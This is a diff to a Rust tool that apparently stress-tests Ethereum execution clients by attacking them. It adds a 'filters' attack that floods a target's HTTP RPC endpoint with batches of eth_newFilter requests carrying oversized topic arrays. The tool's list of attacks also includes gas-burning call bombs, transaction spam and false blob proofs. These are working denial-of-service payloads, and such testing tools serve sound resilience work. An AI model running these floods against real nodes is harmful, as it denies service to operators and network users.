@@ -5,6 +5,7 @@ use std::net::SocketAddr;
 use std::path::PathBuf;
 use std::time::Duration;
 
+use alloy_primitives::B256;
 use client::{EngineClient, Wire};
 use rustix::process::setpriority_process;
 use rustix::thread::gettid;
@@ -61,6 +62,8 @@ enum Act {
     HoldFiles,
     /// Sends batches of this method, each call of which burns all gas that it may.
     Bomb(Bomb),
+    /// Makes filters of all the bytes that one may have.
+    Filters,
     /// Sends this many transactions a second to the pool.
     Spam { rate: usize },
     /// Sends blobs whose proofs are false.
@@ -104,6 +107,7 @@ pub(crate) const ATTACKS: &[Attack] = &[
     attack("estimates", &[(16, Act::Bomb(Bomb::Estimate)), (16, Act::Bomb(Bomb::AccessList))]),
     attack("simulations", &[(16, Act::Bomb(Bomb::Simulate))]),
     attack("traces", &[(16, Act::Bomb(Bomb::Trace))]),
+    attack("filters", &[(64, Act::Filters)]),
     attack("spam", &[(4, Act::Spam { rate: 2_500 })]),
     attack("false-blobs", &[(16, Act::FalseBlobs)]),
 ];
@@ -223,6 +227,12 @@ impl Act {
             Self::HoldFiles => hold_files(target).await,
             Self::Bomb(bomb) => {
                 let batch = batch(20, &bomb.text());
+                talk(target.http, &request(batch.len() as u64, &batch)).await
+            }
+            Self::Filters => {
+                let topics = vec![vec![B256::repeat_byte(7); 450]; 4];
+                let filter = json!([{"topics": topics}]);
+                let batch = batch(20, &request_text("eth_newFilter", &filter));
                 talk(target.http, &request(batch.len() as u64, &batch)).await
             }
             Self::Spam { rate } => send_transfers(target, index, rate).await,
